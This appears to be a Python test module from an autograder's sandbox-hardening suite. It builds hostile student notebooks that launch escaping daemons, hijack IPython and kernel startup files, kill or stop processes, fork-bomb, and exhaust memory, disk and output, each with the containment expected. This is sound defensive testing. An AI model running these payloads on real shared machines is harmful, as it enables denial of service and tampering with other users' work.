"""Category 3: harming other students, the instructor or the grading machine.

Most of these students write correct answers (fair: what those earn); the hostile part is
what else their notebook does. The harness checks that no process survives the batch, that
honest students graded after them get what they get alone, and that nothing appears on the
host.
"""

from __future__ import annotations

from . import RIGHT_CUBE, RIGHT_SQUARE, attack, one, probe_code, toy


def _daemon_launcher(code: str, token: str) -> str:
    """Double fork + setsid; the grandchild execs Python with the token in its argv."""
    return (
        "import os, sys\n"
        f"_dcode = {code!r}\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        devnull = os.open(os.devnull, os.O_RDWR)\n"
        "        for fd in (0, 1, 2):\n"
        "            os.dup2(devnull, fd)\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', _dcode, {token!r}])\n"
        "    os._exit(0)\n"
        "os.wait()\n")


@attack("harm_daemon", "harm", 4, fast=True,
        expect="daemons die with the sandbox; they never reach later students or the host")
def harm_daemon(ctx):
    """A setsid double-forked daemon (and a thread, and a nohup'ed shell loop) that keep
    trying for 15 minutes to write into the victim's job folder, the results folder, the
    host's /tmp and the pwn folder."""
    tok = ctx.token
    targets = [
        f"{ctx.pwn_dir}/victim.txt",
        f"/tmp/{tok}-daemon-was-here",
        f"{ctx.reports}/{tok}-daemon",
        f"{ctx.class_dir}/{ctx.victim}/squares.ipynb",
        f"{ctx.course_root}/submitted/{ctx.victim}/toy/squares.ipynb",
    ]
    daemon = (
        "import os, sys, time, glob\n"
        "from pathlib import Path\n"
        f"targets = {targets!r}\n"
        "plan = os.environ.get('RESNET_KIT_CAPTURE_PLAN', '')\n"
        "run = Path(plan).parent.parent.parent.parent if plan else None\n"
        "home = os.environ.get('HOME', '/sandbox')\n"
        "end = time.time() + 900\n"
        "while time.time() < end:\n"
        "    extra = []\n"
        "    if run is not None:\n"
        f"        extra = [str(run / 'jobs' / {ctx.victim!r} / 'work' / 'captures' / 'squares' / 'test_square.json'),\n"
        f"                 str(run / 'results' / {ctx.victim + '.json'!r})]\n"
        "    for t in targets + extra:\n"
        "        try:\n"
        "            with open(t, 'a') as fh:\n"
        f"                fh.write({tok!r})\n"
        "        except Exception:\n"
        "            pass\n"
        "    try:\n"
        "        Path(home, 'daemon-heartbeat').write_text(str(time.time()))\n"
        "    except Exception:\n"
        "        pass\n"
        "    time.sleep(0.5)\n")
    setup = probe_code(
        _daemon_launcher(daemon, tok)
        + "import threading, time\n"
          "def _spin():\n"
          "    while True:\n"
          "        time.sleep(1)\n"
          "threading.Thread(target=_spin, daemon=False).start()\n"
          f"os.system('nohup sh -c \"while true; do echo {tok} >> /tmp/{tok}-sh; sleep 1; done\" "
          ">/dev/null 2>&1 &')\n"
          "_probe('info:daemon-started', ok=True)\n")
    return one(ctx, "harm_daemon", toy(ctx, square=RIGHT_SQUARE, cube=RIGHT_CUBE, before=setup))


@attack("harm_startup_files", "harm", 0,
        expect="startup files, .pth files and kernel specs only reach the student's own "
               "sandbox (HOME and /tmp are per job)")
def harm_startup_files(ctx):
    """IPython startup files (HOME and IPYTHONDIR), a user-site .pth, sitecustomize.py and
    ipykernel_launcher.py in the working folder, a hijacked python3 kernel spec."""
    tok = ctx.token
    payload = (f"import os\nopen('/tmp/{tok}-startup-ran','a').write('x')\n"
               f"open(os.path.join(os.environ.get('HOME','/sandbox'),'startup-ran-{tok}'),'a').write('x')\n")
    body = (
        "import os, json\n"
        "home = os.environ.get('HOME', '/sandbox')\n"
        "paths = [\n"
        "    os.path.join(home, '.ipython/profile_default/startup/00-evil.py'),\n"
        "    os.path.join(os.environ.get('IPYTHONDIR', '/tmp/ipython'), 'profile_default/startup/00-evil.py'),\n"
        "    '/tmp/ipython/profile_default/startup/00-evil.py',\n"
        "    os.path.join(home, '.local/lib/python3.11/site-packages/evil.pth'),\n"
        "    os.path.join(home, 'sitecustomize.py'),\n"
        "    os.path.join(home, 'usercustomize.py'),\n"
        "]\n"
        f"payload = {payload!r}\n"
        "for p in paths:\n"
        "    def w(p=p):\n"
        "        os.makedirs(os.path.dirname(p), exist_ok=True)\n"
        "        open(p, 'w').write(('import os; exec(' + repr(payload) + ')') if p.endswith('.pth') else payload)\n"
        "    _try('info:wrote:' + p, w)\n"
        "spec = os.path.join(home, '.local/share/jupyter/kernels/python3/kernel.json')\n"
        "def _spec():\n"
        "    os.makedirs(os.path.dirname(spec), exist_ok=True)\n"
        "    import sys\n"
        "    json.dump({'argv': [sys.executable, '-c', payload + 'import runpy; runpy.run_module(\"ipykernel_launcher\", run_name=\"__main__\")', '-f', '{connection_file}'],\n"
        "               'display_name': 'evil', 'language': 'python'}, open(spec, 'w'))\n"
        "_try('info:wrote:kernelspec', _spec)\n")
    return one(ctx, "harm_startup_files", toy(ctx, before=probe_code(body)))


@attack("harm_kill_parent", "harm", 4,
        expect="killing the executor ends only this student's job")
def harm_kill_parent(ctx):
    """SIGKILL to the kernel's parent (the executor) in the cube answer cell."""
    return one(ctx, "harm_kill_parent", toy(
        ctx, square=RIGHT_SQUARE,
        cube="import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + RIGHT_CUBE))


@attack("harm_kill_everything", "harm", 4,
        expect="kill(-1) only reaches the sandbox's own processes; the host pid is invisible")
def harm_kill_everything(ctx):
    """kill(-1, SIGKILL), and SIGKILL to the host's grading process id."""
    body = probe_code(
        f"_try('breach:signal:host-pid', lambda: __import__('os').kill({ctx.host_pid}, 0))\n"
        "import os, signal\n"
        "os.kill(-1, signal.SIGKILL)\n")
    return one(ctx, "harm_kill_everything", toy(
        ctx, square=RIGHT_SQUARE, cube=body + RIGHT_CUBE))


@attack("harm_stop_parent", "harm", 4,
        expect="a stopped executor holds the job until the wall-clock limit (bounded DoS)")
def harm_stop_parent(ctx):
    """SIGSTOP to the executor (and every process of the sandbox but itself)."""
    return one(ctx, "harm_stop_parent", toy(
        ctx, square=RIGHT_SQUARE,
        cube=("import os, signal\n"
              "for p in os.listdir('/proc'):\n"
              "    if p.isdigit() and int(p) not in (os.getpid(), 1):\n"
              "        try:\n"
              "            os.kill(int(p), signal.SIGSTOP)\n"
              "        except Exception:\n"
              "            pass\n" + RIGHT_CUBE)))


@attack("harm_fill_disk", "harm", 4,
        expect="the disk watchdog stops the job; what it wrote should not stay on the host")
def harm_fill_disk(ctx):
    """Write 4 x 700 MiB into the work folder (over the 2 GiB disk limit), and fill /tmp and
    /dev/shm (512 MiB tmpfs each)."""
    body = probe_code(
        "import os\n"
        "home = os.environ.get('HOME', '/sandbox')\n"
        "chunk = b'\\0' * (16 * 2**20)\n"
        "def fill(path, mib):\n"
        "    n = 0\n"
        "    with open(path, 'wb') as fh:\n"
        "        for _ in range(mib // 16):\n"
        "            fh.write(chunk); n += 16\n"
        "    return n\n"
        "_try('info:fill-tmp', lambda: fill('/tmp/fill', 600))\n"
        "_try('info:fill-shm', lambda: fill('/dev/shm/fill', 600))\n"
        "for i in range(4):\n"
        "    _try(f'info:fill-work-{i}', lambda i=i: fill(os.path.join(home, f'fill{i}'), 700))\n")
    return one(ctx, "harm_fill_disk", toy(ctx, square=RIGHT_SQUARE, cube=RIGHT_CUBE,
                                          cells=[("test_training", body)]))


@attack("harm_leftover_files", "harm", 4,
        expect="the job's work folder is deleted (or bounded) after grading: a class of such "
               "students must not fill the grader's disk")
def harm_leftover_files(ctx):
    """Stay under the disk limit: 2 x 600 MiB of random bytes and 20,000 small files in the
    work folder, left there when the notebook ends."""
    body = (
        "import os\n"
        "home = os.environ.get('HOME', '/sandbox')\n"
        "block = os.urandom(2**20)\n"
        "for i in range(2):\n"
        "    with open(os.path.join(home, f'keep{i}.bin'), 'wb') as fh:\n"
        "        for _ in range(600):\n"
        "            fh.write(block)\n"
        "os.makedirs(os.path.join(home, 'many'), exist_ok=True)\n"
        "for i in range(20000):\n"
        "    open(os.path.join(home, 'many', f'f{i}'), 'w').close()\n")
    return one(ctx, "harm_leftover_files", toy(ctx, square=RIGHT_SQUARE, cube=RIGHT_CUBE,
                                               cells=[("test_training", body)]))


@attack("harm_fork_bomb", "harm", 4,
        expect="RLIMIT_NPROC stops it; the rest of the job and later jobs still run")
def harm_fork_bomb(ctx):
    """A fork bomb (every child forks too, errors ignored) in its own cell."""
    body = ("import os\n"
            "while True:\n"
            "    try:\n"
            "        os.fork()\n"
            "    except Exception:\n"
            "        pass\n")
    return one(ctx, "harm_fork_bomb", toy(ctx, square=RIGHT_SQUARE, cube=RIGHT_CUBE,
                                          cells=[("test_training", body)]))


@attack("harm_memory_bomb", "harm", 4,
        expect="RLIMIT_AS stops one process; the job's cgroup caps its processes together")
def harm_memory_bomb(ctx):
    """16 GiB in one process (refused by RLIMIT_AS), then 3 children touching 1 GiB each at
    the same time (within the job's 6 GiB total cap)."""
    body = probe_code(
        "import os, time\n"
        "_try('info:one-16GiB', lambda: len(bytearray(16 * 2**30)))\n"
        "kids = []\n"
        "for i in range(3):\n"
        "    pid = os.fork()\n"
        "    if pid == 0:\n"
        "        try:\n"
        "            b = bytearray(2**30)\n"
        "            b[::4096] = b'\\1' * len(range(0, 2**30, 4096))\n"
        "            _probe('info:child-touched-1GiB', ok=True, child=i, t=time.time())\n"
        "            time.sleep(2)\n"
        "            os._exit(0)\n"
        "        except BaseException as e:\n"
        "            _probe('info:child-touched-1GiB', ok=False, child=i, error=repr(e))\n"
        "            os._exit(3)\n"
        "    kids.append(pid)\n"
        "codes = [os.waitpid(k, 0)[1] for k in kids]\n"
        "_probe('info:three-children-1GiB-each', ok=all(c == 0 for c in codes), codes=codes)\n")
    return one(ctx, "harm_memory_bomb", toy(ctx, square=RIGHT_SQUARE, cube=RIGHT_CUBE,
                                            cells=[("test_training", body)]))


@attack("harm_infinite_output", "harm", 4,
        expect="output is bounded (log cap, LimitOutput, copy-out limit); grading goes on")
def harm_infinite_output(ctx):
    """Print as fast as possible until the cell timeout stops it."""
    body = ("import sys\n"
            "line = 'A' * 1000 + '\\n'\n"
            "while True:\n"
            "    sys.stdout.write(line * 100)\n")
    return one(ctx, "harm_infinite_output", toy(ctx, square=RIGHT_SQUARE, cube=RIGHT_CUBE,
                                                cells=[("test_training", body)]))


@attack("harm_many_files", "harm", 4,
        expect="100,000 files in the work folder and 700 in the capture folder: the watchdog "
               "and copy-out stay bounded")
def harm_many_files(ctx):
    """100,000 empty files in the work folder, 700 files in the capture folder."""
    body = (
        "import os\n"
        "home = os.environ.get('HOME', '/sandbox')\n"
        "for d in range(100):\n"
        "    os.makedirs(os.path.join(home, 'junk', str(d)), exist_ok=True)\n"
        "    for i in range(1000):\n"
        "        open(os.path.join(home, 'junk', str(d), str(i)), 'w').close()\n"
        "cap = os.environ['RESNET_KIT_CAPTURE_DIR']\n"
        "os.makedirs(cap, exist_ok=True)\n"
        "for i in range(700):\n"
        "    open(os.path.join(cap, f'aaa{i:04d}.json'), 'w').write('{}')\n")
    return one(ctx, "harm_many_files", toy(ctx, square=RIGHT_SQUARE, cube=RIGHT_CUBE,
                                           before=body))


@attack("harm_tmp_a_writer", "harm", 0,
        expect="/tmp, /dev/shm, IPYTHONDIR and the Jupyter runtime folder are private per job")
def harm_tmp_a_writer(ctx):
    """Plant files in /tmp, /dev/shm, /tmp/ipython (IPYTHONDIR) startup, /tmp/jupyter-runtime
    and /var/tmp for the next student's sandbox to pick up."""
    tok = ctx.token
    startup = f"open('/tmp/{tok}-startup-ran-in-next-job','a').write('x')\n"
    body = probe_code(
        "import os\n"
        f"for p in ['/tmp/{tok}-shared', '/dev/shm/{tok}-shared', '/var/tmp/{tok}-shared',\n"
        f"          '/tmp/jupyter-runtime/{tok}-shared']:\n"
        "    def w(p=p):\n"
        "        os.makedirs(os.path.dirname(p), exist_ok=True); open(p, 'w').write('x')\n"
        "    _try('info:plant:' + p, w)\n"
        "def st():\n"
        "    d = '/tmp/ipython/profile_default/startup'\n"
        "    os.makedirs(d, exist_ok=True)\n"
        f"    open(os.path.join(d, '00-{tok}.py'), 'w').write({startup!r})\n"
        "_try('info:plant:ipython-startup', st)\n")
    return one(ctx, "harm_tmp_a_writer", toy(ctx, before=body))


@attack("harm_tmp_b_reader", "harm", 0)
def harm_tmp_b_reader(ctx):
    """Graded after harm_tmp_a_writer: looks for what it planted."""
    tok = ctx.token
    body = probe_code(
        "import os\n"
        f"for p in ['/tmp/{tok}-shared', '/dev/shm/{tok}-shared', '/var/tmp/{tok}-shared',\n"
        f"          '/tmp/jupyter-runtime/{tok}-shared', '/tmp/{tok}-startup-ran-in-next-job',\n"
        f"          '/tmp/ipython/profile_default/startup/00-{tok}.py']:\n"
        "    _try('breach:shared:' + p, lambda p=p: open(p).read())\n")
    return one(ctx, "harm_tmp_b_reader", toy(ctx, before=body))


# --- hurting the neighbours and the host: load, disk and memory past the job's caps -----------
# (issue 17: with --workers 2 a student starting many busy processes made the honest student
# beside it time out; writers in parallel put 6 GiB on disk against a 2 GiB cap; memory was
# capped per process only.)

def busy_children(seconds: int) -> str:
    """A cell that leaves 48 processes spinning for ``seconds`` (immune to the interrupt, each
    in a session of its own) and spins 6 s itself."""
    return ("import os, signal, time\n"
            "def _spin(seconds):\n"
            "    end = time.time() + seconds\n"
            "    while time.time() < end:\n"
            "        pass\n"
            "for _ in range(48):\n"
            "    if os.fork() == 0:\n"
            "        signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "        os.setsid()\n"
            f"        _spin({seconds})\n"
            "        os._exit(0)\n"
            "_spin(6)\n")


BUSY_CHILDREN = busy_children(3600)


@attack("harm_busy_neighbour", "harm", 4,
        expect="each job gets its own CPU share (cgroup weight): the students graded beside "
               "it keep their grades; its own job ends within its one time budget (kernel "
               "restarts replay the busy cell but spend the same budget)")
def harm_busy_neighbour(ctx):
    """Right answers, then a cell that leaves 48 busy processes spinning (immune to the
    interrupt, in sessions of their own) and spins itself for 6 s, then six cells that kill
    the kernel: every restart replays the busy cell, 48 spinners more each time."""
    cells = [(None, BUSY_CHILDREN)] + [(None, "import os\nos._exit(1)")] * 6
    return one(ctx, "harm_busy_neighbour", toy(ctx, square=RIGHT_SQUARE, cube=RIGHT_CUBE,
                                               cells=cells))


@attack("harm_parallel_writers", "harm", 4,
        expect="the job's folder is a filesystem of its own of the disk cap: 32 writers at "
               "once meet ENOSPC at the cap (the polled watchdog let 6 GiB through 2 GiB)")
def harm_parallel_writers(ctx):
    """Right answers, then 32 processes each writing 256 MiB into the work folder at once
    (8 GiB against the 2 GiB cap); it reports how much it managed to write in all."""
    body = probe_code(
        "import os\n"
        "home = os.environ.get('HOME', '/sandbox')\n"
        "kids = []\n"
        "for i in range(32):\n"
        "    pid = os.fork()\n"
        "    if pid == 0:\n"
        "        n = 0\n"
        "        try:\n"
        "            with open(os.path.join(home, f'w{i}'), 'wb') as fh:\n"
        "                block = b'x' * 2**20\n"
        "                for _ in range(256):\n"
        "                    fh.write(block); n += 1\n"
        "        except OSError:\n"
        "            pass\n"
        "        os._exit(0)\n"
        "    kids.append(pid)\n"
        "for k in kids:\n"
        "    os.waitpid(k, 0)\n"
        "total = sum(os.path.getsize(os.path.join(home, f'w{i}')) for i in range(32)\n"
        "            if os.path.exists(os.path.join(home, f'w{i}')))\n"
        "for i in range(32):  # room for the probes: a full disk takes no more lines\n"
        "    try:\n"
        "        os.unlink(os.path.join(home, f'w{i}'))\n"
        "    except OSError:\n"
        "        pass\n"
        "_probe('info:written-in-all', ok=True, bytes=total)\n"
        "_probe('breach:wrote-past-the-disk-cap', ok=total > 2 * 2**30 + 2**20, bytes=total)\n")
    return one(ctx, "harm_parallel_writers", toy(ctx, square=RIGHT_SQUARE, cube=RIGHT_CUBE,
                                                 cells=[(None, body)]))


@attack("harm_memory_many_processes", "harm", 4,
        expect="the job's memory cap holds for its processes together (a cgroup): 24 children "
               "of 512 MiB (12 GiB) cannot all live in 6 GiB")
def harm_memory_many_processes(ctx):
    """Right answers, then 24 children each touching 512 MiB at once (each far under its
    8 GiB RLIMIT_AS); it reports how many held their memory together."""
    body = probe_code(
        "import os, time\n"
        "r, w = os.pipe()\n"
        "kids = []\n"
        "for i in range(24):\n"
        "    pid = os.fork()\n"
        "    if pid == 0:\n"
        "        try:\n"
        "            b = bytearray(512 * 2**20)\n"
        "            b[::4096] = b'\\1' * len(range(0, len(b), 4096))\n"
        "            os.write(w, b'1')\n"
        "            time.sleep(4)\n"
        "        finally:\n"
        "            os._exit(0)\n"
        "    kids.append(pid)\n"
        "codes = [os.waitpid(k, 0)[1] for k in kids]\n"
        "os.close(w)\n"
        "held = len(os.read(r, 64))\n"
        "_probe('info:children-holding-512MiB', ok=True, held=held, codes=codes)\n"
        "_probe('breach:more-than-the-total-cap', ok=held * 512 > 6 * 1024, held=held)\n")
    return one(ctx, "harm_memory_many_processes", toy(ctx, square=RIGHT_SQUARE,
                                                      cube=RIGHT_CUBE, cells=[(None, body)]))
